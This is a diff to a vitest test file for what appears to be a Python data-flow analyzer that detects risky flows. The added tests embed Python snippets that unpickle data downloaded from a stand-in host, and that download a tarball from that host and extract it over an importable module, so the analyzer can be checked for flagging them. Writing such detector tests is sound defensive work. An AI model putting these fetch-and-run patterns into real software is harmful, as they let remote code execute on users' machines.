@@ -2,7 +2,7 @@
 // secret at a host.
 // biome-ignore-all lint/suspicious/noTemplateCurlyInString: the texts are programs
 import { beforeAll, describe, expect, it } from 'vitest';
-import { prepare, run } from './harness.ts';
+import { prepare, py, run } from './harness.ts';
 
 beforeAll(prepare);
 
@@ -255,4 +255,28 @@ describe('several files', () => {
 describe('python', () => {
   for (const [idiom, program] of Object.entries(PY))
     it(idiom, () => expect(ends('scripts/a.py', expandPy(program))).not.toEqual([]));
+});
+
+describe('what is come to by several ways', () => {
+  it('a call receives what any of them brings', () => {
+    const { facts } = py(
+      'import pickle, urllib.request\ndef unpack(blob):\n    return pickle.loads(blob[8:])\ndef fetch():\n    return unpack(urllib.request.urlopen("https://h.test/p").read())\n',
+    );
+    const loads = facts.filter((fact) => fact.kind === 'call' && fact.callee === 'pickle.loads');
+    expect(loads.flatMap((fact) => (fact.kind === 'call' ? fact.receives : []))).toContain('net');
+  });
+
+  it('a pattern lists the folder it names', () => {
+    const { facts } = py('from pathlib import Path\nfor p in Path.home().glob("notes/*.md"):\n    print(p)\n');
+    const listed = facts.flatMap((fact) => (fact.kind === 'path' && fact.access === 'list' ? [fact.path] : []));
+    expect(listed).toEqual(['~/notes']);
+  });
+
+  it('the module that came along is the one that is imported', () => {
+    const fill = (folder: string) =>
+      `import io, tarfile, urllib.request\nimport profiles\ndata = urllib.request.urlopen("https://h.test/p.tgz").read()\ntarfile.open(fileobj=io.BytesIO(data)).extractall("${folder}")\n`;
+    const runs = (files: Record<string, string>) =>
+      run(files).facts.some((fact) => fact.kind === 'flow' && fact.to === 'run-file');
+    expect(runs({ 'scripts/a.py': fill('profiles'), 'scripts/profiles.py': 'X = 1\n' })).toBe(false);
+  });
 });
